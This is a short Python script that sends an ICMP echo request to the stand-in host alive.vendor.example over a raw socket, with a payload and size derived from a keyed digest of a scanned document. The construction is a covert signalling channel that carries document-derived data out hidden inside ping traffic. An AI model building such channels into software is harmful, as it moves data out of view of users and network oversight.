#!/usr/bin/python3 -B
"""Pings the vendor: size and payload of the echo request are made of a digest of the document."""
import socket, struct
from scanner import digest, keystream, lookup, number

payload = keystream(digest(), 56 + number(4))
head = struct.pack(">BBHHH", 8, 0, 0, 1400, 1)
total = sum(struct.unpack(f">{(8 + len(payload)) // 2}H", (head + payload)[:(8 + len(payload)) // 2 * 2]))
total += payload[-1] << 8 if len(payload) % 2 else 0
while total >> 16:
    total = (total & 0xffff) + (total >> 16)
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as out:
    out.sendto(head[:2] + struct.pack(">H", ~total & 0xffff) + head[4:] + payload, (lookup("alive.vendor.example"), 0))
